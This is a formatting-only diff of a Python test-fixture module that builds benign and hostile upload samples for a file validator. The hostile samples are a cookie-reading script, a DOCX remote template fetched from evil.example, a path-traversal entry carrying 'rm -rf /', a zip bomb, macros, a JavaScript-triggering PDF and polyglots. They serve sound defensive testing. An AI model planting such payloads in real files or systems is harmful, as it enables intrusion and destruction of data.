@@ -1,4 +1,5 @@
 """Small real files of each accepted type, and hostile ones, made in memory for tests."""
+
 from __future__ import annotations
 
 import io
@@ -8,15 +9,21 @@ import zlib
 
 from PIL import Image
 
-DOCX_TYPES = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
-              b'content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
-              b'officedocument.wordprocessingml.document.main+xml"/></Types>')
-DOCUMENT = (b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
-            b'<w:body><w:p><w:r><w:t>Notes of the meeting.</w:t></w:r></w:p></w:body></w:document>')
-REMOTE_TEMPLATE = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
-                   b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
-                   b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
-                   b'</Relationships>')
+DOCX_TYPES = (
+    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+    b'content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
+    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
+)
+DOCUMENT = (
+    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+    b"<w:body><w:p><w:r><w:t>Notes of the meeting.</w:t></w:r></w:p></w:body></w:document>"
+)
+REMOTE_TEMPLATE = (
+    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+    b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
+    b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
+    b"</Relationships>"
+)
 HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
 
 
@@ -33,10 +40,12 @@ def jpeg(size=(64, 48)) -> bytes:
 
 
 def pdf() -> bytes:
-    return (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
-            b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
-            b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj\n"
-            b"trailer << /Root 1 0 R >>\n%%EOF\n")
+    return (
+        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
+        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
+        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj\n"
+        b"trailer << /Root 1 0 R >>\n%%EOF\n"
+    )
 
 
 def zipped(members: dict[str, bytes]) -> bytes:
@@ -73,15 +82,21 @@ BAD_FILES = {
     "jpeg-then-html": (jpeg() + HTML, "photo.jpg", "JPEG image"),
     "pdf-named-zip": (zipped({"a.txt": b"hello"}), "minutes.pdf", "ZIP archive, not a Word document"),
     "pdf-zip-polyglot": (pdf() + zipped({"a.txt": b"hello"}), "minutes.pdf", "ZIP archive inside it"),
-    "pdf-with-javascript": (pdf().replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript >>"),
-                            "minutes.pdf", "scripts"),
+    "pdf-with-javascript": (
+        pdf().replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript >>"),
+        "minutes.pdf",
+        "scripts",
+    ),
     "docx-without-document": (zipped({"[Content_Types].xml": DOCX_TYPES}), "notes.docx", "not a Word document"),
     "docx-zip-bomb": (docx(**{"word/media/big.bin": b"\x00" * (30 * 1024 * 1024)}), "notes.docx", "ZIP bomb"),
     "docx-macros": (docx(**{"word/vbaProject.bin": b"macro"}), "notes.docx", "macros"),
     "docx-path-trick": (docx(**{"../../evil.sh": b"rm -rf /"}), "notes.docx", "unsafe paths"),
     "docx-named-pdf": (docx(), "notes.pdf", "its name ends .pdf but it is a Word document"),
-    "docx-remote-template": (docx(**{"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}), "notes.docx",
-                             "loads content from elsewhere"),
+    "docx-remote-template": (
+        docx(**{"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
+        "notes.docx",
+        "loads content from elsewhere",
+    ),
     "png-named-exe": (png(), "photo.exe", "its name ends .exe but it is a PNG image"),
 }
 
@@ -99,7 +114,10 @@ def attach_png(app, entry_id: int, user_id: int, name: str = "arm.png", data: by
 
     data = png() if data is None else data
     with app.test_request_context():
-        operations.attach(db.session.get(User, user_id), db.session.get(Entry, entry_id),
-                          [Upload(data, name, sniff.identify(data), hashlib.sha256(data).hexdigest())])
+        operations.attach(
+            db.session.get(User, user_id),
+            db.session.get(Entry, entry_id),
+            [Upload(data, name, sniff.identify(data), hashlib.sha256(data).hexdigest())],
+        )
         db.session.commit()
         return db.session.scalar(select(Attachment.id).order_by(Attachment.id.desc()).limit(1))
